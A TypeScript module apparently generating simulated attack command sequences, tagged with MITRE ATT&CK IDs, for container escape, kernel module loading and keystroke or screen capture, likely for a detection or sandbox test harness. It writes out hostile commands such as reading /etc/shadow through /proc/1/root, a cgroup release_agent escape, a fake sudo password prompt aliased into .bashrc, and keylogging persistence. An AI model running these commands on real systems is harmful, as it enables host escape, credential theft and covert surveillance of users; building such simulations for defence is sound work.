import type { Attack } from '../scenario.ts';
import { look, maybe, root, workFile, workFolder, write } from '../ways.ts';

/** Ways out of a container are tried; none leads out of the machine of a session. */
const leaving: Attack = {
  name: 'container-left',
  family: 'container-left',
  techniques: ['T1611', 'T1613', 'T1610'],
  as: 'either',
  needs: ['unshare', 'nsenter', 'curl', 'capsh', 'sudo', 'python3'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const group = `${folder}/${draw.word()}`;
    const about = draw.some(
      [
        'cat /proc/1/cgroup',
        'ls -la /.dockerenv /run/.containerenv 2>&1',
        'capsh --print | head -4',
        'grep Cap /proc/self/status',
        'cat /proc/self/mountinfo | head -8',
        'mount | grep overlay',
        'ls -la /var/run/docker.sock /run/containerd 2>&1',
        'env | grep -i kube',
        'ls /var/run/secrets 2>&1',
        'cat /proc/self/uid_map',
      ],
      draw.int(2, 5),
    );
    const ways = [
      `curl -s -m 3 --unix-socket /var/run/docker.sock http://localhost/containers/json`,
      root(place, `nsenter -t 1 -m -u -i -n -p -- ${draw.pick(['id', 'hostname', 'ls /', 'ps aux'])}`),
      root(place, `ls /proc/1/root/root /proc/1/root/home`),
      root(place, `cat /proc/1/root/etc/shadow | head -2`),
      root(place, `chroot /proc/1/root ${draw.pick(['id', 'ls /root', 'cat /etc/hostname'])}`),
      root(place, `unshare -m sh -c 'mount -t tmpfs none /mnt; ls /mnt; cat /proc/self/mountinfo | tail -2'`),
      `unshare -Ur sh -c 'id; mount -t tmpfs none /mnt 2>&1; cat /etc/shadow 2>&1 | head -1'`,
      root(
        place,
        `unshare -m sh -c 'mkdir -p ${group}; mount -t tmpfs none ${group}; mkdir ${group}/x; echo 1 > ${group}/x/notify_on_release; echo ${folder}/cmd > ${group}/release_agent; cat ${group}/release_agent'`,
      ),
      root(
        place,
        `bash -c 'printf "#!/bin/sh\\nps aux > ${folder}/output\\n" > ${folder}/cmd; chmod +x ${folder}/cmd'`,
      ),
      root(place, `mount --bind /root ${group}; ls ${group}; ${root(place, `umount ${group}`)}`),
      root(place, `ls /dev/disk /dev/sd* /dev/vd* /dev/nvme* 2>&1 | head`),
      `cat /proc/sys/kernel/core_pattern; sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mounts | head -1`,
      `timeout 3 bash -c 'curl -s http://169.254.169.254/latest/meta-data/'`,
      root(
        place,
        `python3 -c 'import os,ctypes; ctypes.CDLL(None).setns(os.open("/proc/1/ns/mnt",0),0); print(os.listdir("/"))'`,
      ),
    ];
    return [
      ...about,
      `mkdir -p ${folder} ${group}`,
      ...draw.some(ways, draw.int(2, 6)),
      ...maybe(draw, 0.4, `rm -rf --one-file-system ${folder} 2>/dev/null`),
    ];
  },
};

/** A module for the kernel is tried; what is loaded is no module, so the kernel refuses. */
const kernelModule: Attack = {
  name: 'kernel-module-tried',
  family: 'kernel-module-tried',
  techniques: ['T1547.006', 'T1014', 'T1082'],
  as: 'either',
  needs: ['gcc', 'python3', 'perl', 'sudo'],
  lines: (draw, place) => {
    const name = draw.word().replace('-', '_');
    const folder = workFolder(draw, place);
    const file = `${folder}/${name}.ko`;
    const text = `static int at __attribute__((used)) = ${draw.int(1, 99)};\nint init_module(void) { return 0; }\nvoid cleanup_module(void) { }`;
    const load = draw.pick([
      root(place, `insmod ${file}`),
      root(
        place,
        `python3 -c 'import ctypes,os; print(ctypes.CDLL(None).syscall(313, os.open("${file}",0), b"", 0))'`,
      ),
      root(place, `perl -e 'open(F,"<","${file}"); print syscall(313, fileno(F), my $e="", 0), "\\n"'`),
      root(place, `modprobe -d ${folder} ${name}`),
    ]);
    return [
      ...draw.some(
        [
          'uname -r',
          'ls /lib/modules 2>&1',
          'head -5 /proc/modules',
          root(place, 'head -4 /proc/kallsyms'),
          root(place, 'grep -m3 -E " (sys_call_table|tcp4_seq_show|x64_sys_kill)$" /proc/kallsyms'),
          'cat /proc/sys/kernel/tainted /proc/sys/kernel/modules_disabled',
          'ls /usr/src',
        ],
        draw.int(2, 5),
      ),
      `mkdir -p ${folder}`,
      write(draw, `${folder}/${name}.c`, text),
      `gcc -c -o ${file} ${folder}/${name}.c`,
      load,
      ...maybe(draw, 0.3, load),
      ...maybe(
        draw,
        0.5,
        root(
          place,
          `bash -c "mkdir -p /lib/modules/$(uname -r)/extra; cp ${file} /lib/modules/$(uname -r)/extra/; echo ${name} >> /etc/modules"`,
        ),
        root(place, `bash -c "echo ${name} > /etc/modules-load.d/${name}.conf"`),
      ),
      ...maybe(draw, 0.4, `${root(place, 'dmesg')} 2>/dev/null | tail -2`),
      ...maybe(draw, 0.5, `rm -rf ${folder}`),
    ];
  },
};

/** What others type and see is recorded. */
const input: Attack = {
  name: 'input-captured',
  family: 'input-captured',
  techniques: ['T1056.001', 'T1113', 'T1056.003'],
  as: 'either',
  needs: ['script', 'python3', 'strace', 'sudo', 'xxd'],
  lines: (draw, place) => {
    const log = workFile(draw, place, draw.pick(['.log', '.txt', '']));
    const code = workFile(draw, place, '.py');
    const ways = [
      [root(place, `timeout 5 cat /dev/input/event0 > ${log}`)],
      [
        'ls -la /dev/input /proc/bus/input/devices 2>&1',
        `timeout 3 xxd /dev/input/event${draw.int(0, 3)} 2>&1 | head -2`,
      ],
      [
        `script -q -c "${draw.pick(['id; ls', 'sudo -n -l', 'ls -la /etc | tail -4'])}" ${log} > /dev/null`,
        `echo 'script -qf ${log}.$$ > /dev/null' >> ~/.zshrc`,
      ],
      [
        `echo 'export PROMPT_COMMAND="history 1 >> ${log}"' >> ~/.bashrc`,
        `bash -ic 'id; ls' > /dev/null 2>&1`,
      ],
      [`export PROMPT_COMMAND='history 1 >> ${log}'`, 'id', 'ls -la ~', 'unset PROMPT_COMMAND'],
      [
        `cat > ~/.cache.sh << 'EOF'\nread -t 2 -sp "[sudo] password for $USER: " p < /dev/null; echo "$USER:$p" >> ${log}\nEOF`,
        `echo "alias sudo='bash ~/.cache.sh; sudo'" >> ~/.bashrc`,
        'bash ~/.cache.sh',
      ],
      [
        `timeout 4 import -window root ${log}.png || timeout 4 xwd -root -out ${log}.xwd`,
        'cat /dev/fb0 2>&1 | head -c 100',
        'cat /dev/vcs1 2>&1 | head -c 200',
      ],
      [
        write(
          draw,
          code,
          `import os, pty, sys\nlog = open("${log}", "wb")\ndef read(fd):\n  data = os.read(fd, 1024); log.write(data); log.flush(); return data\npty.spawn(["bash", "-c", "id; ls ~; sleep 1"], read)`,
        ),
        `timeout 10 python3 ${code} > /dev/null`,
      ],
      [
        `sleep ${draw.int(30, 60)} & timeout 6 ${root(place, `strace -f -p $! -e trace=read,write -o ${log}`)}`,
      ],
    ];
    return [
      ...look(draw, draw.int(2, 3)),
      ...draw.some(ways, draw.int(1, 3)).flat(),
      ...maybe(draw, 0.6, `cat ${log} | tail -5`),
      ...maybe(draw, 0.4, `rm -f ${log} ${code}`),
    ];
  },
};

export const ISOLATION: readonly Attack[] = [leaving, kernelModule, input];
